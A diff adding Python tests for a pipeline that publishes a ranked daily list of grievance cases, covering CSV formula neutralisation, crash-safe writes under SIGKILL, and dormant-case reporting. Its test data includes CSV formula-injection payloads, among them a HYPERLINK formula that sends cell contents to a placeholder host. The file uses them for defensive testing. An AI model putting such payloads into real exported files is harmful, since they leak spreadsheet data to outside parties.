@@ -2,7 +2,14 @@
 
 from __future__ import annotations
 
+import io
 import json
+import os
+import pickle
+import signal
+import subprocess
+import sys
+import time
 from datetime import date
 from pathlib import Path
 
@@ -13,7 +20,16 @@ from contracts.records import LIST_COLUMNS, check_list
 from contracts.settings import Settings
 from features.grievances import empty_clusters
 from pipelines import publish as publishing
-from pipelines.publish import input_fingerprint, manifest, publish_list, table_bytes, write_atomic
+from pipelines.publish import (
+    dormant_bytes,
+    input_fingerprint,
+    manifest,
+    publish_day,
+    publish_list,
+    read_latest,
+    table_bytes,
+    write_atomic,
+)
 from pipelines.score_flow import list_audit, published_grievances
 from tests.conftest import make_sources
 from warehouse import tables
@@ -140,3 +156,165 @@ def test_fingerprint_changes_with_any_record_version() -> None:
     )
     assert input_fingerprint(base) == input_fingerprint(base)
     assert input_fingerprint(base) != input_fingerprint(changed)
+
+
+FORMULAS = ['=HYPERLINK("http://x/?d="&B2,"详情")', "@A1", "+1+1", "-2+3"]
+
+
+def test_list_csv_cells_are_neutralised_and_the_parquet_keeps_the_values() -> None:
+    listed = pd.concat([_listed()] * 2, ignore_index=True).assign(
+        rank=[1, 2, 3, 4],
+        case_id=FORMULAS,
+        town=["\t=1+1", "\r@x", "湖滨街道", None],
+        score=[-0.0, 0.5, 1, 0],
+    )
+    files = table_bytes(listed)
+    csv = pd.read_csv(io.BytesIO(files["csv"]), encoding="utf-8-sig", keep_default_na=False)
+    assert csv["case_id"].tolist() == ["'" + f for f in FORMULAS]
+    assert csv["town"].tolist() == ["'\t=1+1", "'\r@x", "湖滨街道", ""]
+    assert csv["score"].tolist() == [-0.0, 0.5, 1.0, 0.0] and csv["rank"].tolist() == [1, 2, 3, 4]
+    pd.testing.assert_frame_equal(pd.read_parquet(io.BytesIO(files["parquet"])), listed)
+
+
+def _day(as_of: date, tmp_path: Path) -> tuple[pd.DataFrame, dict]:
+    """A day's list and its manifest (with one dormant case)."""
+    listed = _listed().assign(as_of=as_of)
+    settings = Settings(home=tmp_path, fairness_min_cases=1)
+    description = manifest(
+        listed,
+        as_of,
+        "fengqiao-escalation/v1",
+        "abc",
+        settings,
+        list_audit(listed, settings),
+        _grievances(),
+        DORMANT,
+    )
+    return listed, description
+
+
+DORMANT = pd.DataFrame(
+    {
+        "case_id": ["Z"],
+        "district": ["东湖区"],
+        "category": ["劳资纠纷"],
+        "opened_at": pd.to_datetime(["2024-01-01 09:00"]),
+        "last_activity_at": pd.to_datetime(["2024-06-01 09:00"]),
+        "days_inactive": [273],
+    }
+)
+OLD_DAY, NEW_DAY = date(2025, 3, 1), date(2025, 3, 2)
+CHILD = """
+import os, pickle, sys, time
+from pathlib import Path
+from pipelines import publish as publishing
+from pipelines.publish import publish_day
+from warehouse.store import Warehouse
+
+point, count, folder = sys.argv[1], int(sys.argv[2]), Path(sys.argv[3])
+calls = {"n": 0}
+
+def hang():
+    (folder / "reached").write_text("yes")
+    time.sleep(120)
+
+def hooked(real):
+    def call(*args):
+        calls["n"] += 1
+        if calls["n"] == count:
+            hang()
+        return real(*args)
+    return call
+
+if point == "store":
+    Warehouse.replace_list = lambda *args: hang()
+else:
+    setattr(publishing.os, point, hooked(getattr(os, point)))
+warehouse = Warehouse(f"sqlite:///{folder / 'w.db'}")
+listed, description, grievances, dormant = pickle.loads((folder / "day.pickle").read_bytes())
+publish_day(listed, description, folder / "lists", warehouse, grievances, dormant=dormant)
+"""
+# (hooked call, its number): staging the first file, staging the third, in the store's transaction,
+# renaming the manifest (the list files are renamed by then), moving `latest`.
+KILLS = {
+    "staging the list": ("fsync", 1),
+    "staging the grievances": ("fsync", 3),
+    "store transaction": ("store", 0),
+    "manifest rename": ("replace", 6),
+    "latest pointer": ("replace", 7),
+}
+
+
+@pytest.mark.parametrize("point", list(KILLS))
+def test_a_publish_killed_mid_write_leaves_no_partial_file_and_the_next_cleans_up(
+    point: str, tmp_path: Path
+) -> None:
+    lists = tmp_path / "lists"
+    warehouse = Warehouse(f"sqlite:///{tmp_path / 'w.db'}")
+    old_list, old_description = _day(OLD_DAY, tmp_path)
+    publish_day(old_list, old_description, lists, warehouse, _grievances(), dormant=DORMANT)
+    new_list, new_description = _day(NEW_DAY, tmp_path)
+    day = (new_list, new_description, _grievances(), DORMANT)
+    (tmp_path / "day.pickle").write_bytes(pickle.dumps(day))
+    hook, count = KILLS[point]
+    root = Path(__file__).resolve().parents[1]
+    child = subprocess.Popen([sys.executable, "-c", CHILD, hook, str(count), str(tmp_path)], cwd=root)
+    try:
+        deadline = time.monotonic() + 120
+        while not (tmp_path / "reached").exists():
+            assert child.poll() is None, f"the publishing child ended ({child.returncode}) before {point}"
+            assert time.monotonic() < deadline, f"the publishing child never reached {point}"
+            time.sleep(0.05)
+        os.kill(child.pid, signal.SIGKILL)
+    finally:
+        child.kill()
+        child.wait()
+    assert child.returncode == -signal.SIGKILL
+    pointer, shown = read_latest(lists)
+    assert pointer["as_of"] == OLD_DAY.isoformat()
+    pd.testing.assert_frame_equal(shown, old_list)
+    expected = {
+        f"{NEW_DAY}.parquet": table_bytes(new_list)["parquet"],
+        f"{NEW_DAY}.csv": table_bytes(new_list)["csv"],
+        f"{NEW_DAY}.grievances.parquet": table_bytes(_grievances())["parquet"],
+        f"{NEW_DAY}.grievances.csv": table_bytes(_grievances())["csv"],
+        f"{NEW_DAY}.dormant.parquet": dormant_bytes(DORMANT),
+    }
+    for name, payload in expected.items():  # a file under its final name is whole, or absent
+        path = lists / name
+        assert not path.exists() or path.read_bytes() == payload, name
+    if point.startswith("staging"):
+        assert not [p for p in lists.iterdir() if p.name.startswith(str(NEW_DAY))]
+    leftovers = [p.name for p in lists.iterdir() if p.name.endswith(".tmp")]
+    assert all(name.endswith(f".{child.pid}.tmp") for name in leftovers)
+    assert leftovers or point == "store transaction"
+    publish_day(new_list, new_description, lists, warehouse, _grievances(), dormant=DORMANT)
+    pointer, shown = read_latest(lists)
+    assert pointer["as_of"] == NEW_DAY.isoformat()
+    pd.testing.assert_frame_equal(shown, new_list)
+    assert not [p.name for p in lists.iterdir() if p.name.endswith(".tmp")]
+    assert {name: (lists / name).read_bytes() for name in expected} == expected
+
+
+def test_dormant_cases_are_published_beside_the_list_and_counted(tmp_path: Path) -> None:
+    listed, description = _day(AS_OF, tmp_path)
+    warehouse = Warehouse(f"sqlite:///{tmp_path / 'w.db'}")
+    paths = publish_day(listed, description, tmp_path / "lists", warehouse, _grievances(), dormant=DORMANT)
+    assert paths["dormant"].name == "2025-03-01.dormant.parquet"
+    pd.testing.assert_frame_equal(pd.read_parquet(paths["dormant"]), DORMANT)
+    written = json.loads(paths["manifest"].read_text())
+    assert (written["dormant_cases"], written["dormant_days"], written["empty_reason"]) == (1, 180, None)
+
+
+def test_an_empty_list_says_why() -> None:
+    settings = Settings(home=Path("unused"))
+    empty = _listed().iloc[:0]
+    audit = list_audit(_listed(), settings)
+    grievances = _grievances()
+    only_dormant = manifest(empty, AS_OF, "v", "abc", settings, audit, grievances, DORMANT)
+    nothing_open = manifest(empty, AS_OF, "v", "abc", settings, audit, grievances, DORMANT.iloc[:0])
+    assert only_dormant["cases"] == 0 and only_dormant["empty_reason"] == (
+        "no open case was active in the 180 days before 2025-03-01: all 1 open cases are dormant "
+        "and listed apart"
+    )
+    assert nothing_open["empty_reason"] == "no case was open at 2025-03-01"
